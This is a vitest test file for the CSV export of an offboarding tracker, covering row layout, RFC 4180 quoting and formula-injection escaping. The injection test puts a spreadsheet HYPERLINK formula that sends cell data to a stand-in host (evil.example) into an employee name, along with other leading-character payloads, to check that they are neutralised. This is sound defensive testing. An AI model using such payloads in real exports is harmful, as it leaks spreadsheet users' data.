import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, csvRecords, renderCsv } from '../../src/export/csv.js';
import type { OffboardingRow, SecurityTaskRow } from '../../src/export/rows.js';

function task(overrides: Partial<SecurityTaskRow> = {}): SecurityTaskRow {
  return {
    id: 'disable-email',
    title: 'Disable email account',
    controls: ['PS-4(a)', 'PS-4(b)'],
    state: 'done',
    due: '2026-12-04T22:59:00.000Z',
    doneAt: '2026-12-04T20:00:00.000Z',
    doneBy: 'it-ivan',
    how: 'person',
    evidence: 'event',
    result: 'on-time',
    lateByMs: -10_740_000,
    lateBy: 'on time',
    timeToRevokeMs: 748_800_000,
    naReason: null,
    ...overrides,
  };
}

function row(overrides: Partial<OffboardingRow> = {}): OffboardingRow {
  return {
    issue: 12,
    title: 'Offboarding: Jane Doe — last day 2026-12-04',
    employee: { name: 'Jane Doe', login: 'jdoe', department: 'Engineering', manager: 'mgr-maria' },
    departureType: 'Voluntary',
    lastDay: '2026-12-04',
    state: 'completed',
    openedAt: '2026-11-26T09:59:00Z',
    intakeAt: '2026-11-26T10:00:00.000Z',
    endedAt: '2026-12-07T09:05:00.000Z',
    cancelled: null,
    record: 'ok',
    securityTasks: [task(), task({ id: 'revoke-vpn', title: 'Revoke VPN access', result: 'late', lateByMs: 10_800_000, lateBy: 'late by 3h' })],
    notes: [],
    ...overrides,
  };
}

/** The file as a spreadsheet reads it: BOM dropped, RFC 4180 records. */
function readBack(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

describe('CSV', () => {
  it('a header row, then one row per security task with the offboarding columns repeated', () => {
    const text = renderCsv([row()]);
    expect(text.startsWith('\ufeffissue,employee_name,')).toBe(true);
    expect(text).toContain('\r\n');
    const [header, first, second, ...rest] = readBack(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rest).toEqual([]);
    const cell = (r: string[] | undefined, c: (typeof CSV_COLUMNS)[number]) => r?.[CSV_COLUMNS.indexOf(c)];
    for (const r of [first, second]) {
      expect(cell(r, 'issue')).toBe('12');
      expect(cell(r, 'employee_name')).toBe('Jane Doe');
      expect(cell(r, 'state')).toBe('completed');
    }
    expect(cell(first, 'task_id')).toBe('disable-email');
    expect(cell(first, 'controls')).toBe('PS-4(a), PS-4(b)');
    // A number the export computed stays a number, negative included (early): no apostrophe.
    expect(cell(first, 'late_by_ms')).toBe('-10740000');
    expect(cell(second, 'late_by')).toBe('late by 3h');
  });

  it('an offboarding without security tasks is one row with empty task columns', () => {
    const records = csvRecords(row({ securityTasks: [], record: 'from-title', notes: ['first', 'second'] }));
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({ issue: 12, task_id: null, due: null, record: 'from-title', notes: 'first\nsecond' });
    const [, only] = readBack(renderCsv([row({ securityTasks: [], notes: ['first', 'second'] })]));
    expect(only?.[CSV_COLUMNS.indexOf('notes')]).toBe('first\nsecond');
    expect(only?.[CSV_COLUMNS.indexOf('task_id')]).toBe('');
  });

  it('formula injection: text starting with =, +, -, @, tab or CR gets an apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvCell('Jane =1')).toBe('Jane =1');
    expect(csvCell("'already")).toBe("'already");
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    const evil = row({
      employee: { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', login: '@jdoe', department: '+Sales', manager: '-1+2' },
      securityTasks: [task({ title: '\tTabbed', doneBy: '\rcr' })],
    });
    const [, r] = readBack(renderCsv([evil]));
    const cell = (c: (typeof CSV_COLUMNS)[number]) => r?.[CSV_COLUMNS.indexOf(c)];
    expect(cell('employee_name')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cell('employee_login')).toBe("'@jdoe");
    expect(cell('department')).toBe("'+Sales");
    expect(cell('manager')).toBe("'-1+2");
    expect(cell('task_title')).toBe("'\tTabbed");
    expect(cell('done_by')).toBe("'\rcr");
  });

  it('RFC 4180 quoting: commas, quotes and line breaks survive the round trip', () => {
    const name = 'Doe, Jane "JJ"\nSecond line';
    const text = renderCsv([row({ employee: { name, login: null, department: 'R&D; Labs', manager: null }, notes: ['a, b', 'say "hi"'] })]);
    expect(text).toContain('"Doe, Jane ""JJ""\nSecond line"');
    const [, r] = readBack(text);
    expect(r?.[CSV_COLUMNS.indexOf('employee_name')]).toBe(name);
    expect(r?.[CSV_COLUMNS.indexOf('employee_login')]).toBe('');
    expect(r?.[CSV_COLUMNS.indexOf('department')]).toBe('R&D; Labs');
    expect(r?.[CSV_COLUMNS.indexOf('notes')]).toBe('a, b\nsay "hi"');
  });

  it('no rows: the header alone', () => {
    expect(readBack(renderCsv([]))).toEqual([[...CSV_COLUMNS]]);
  });
});
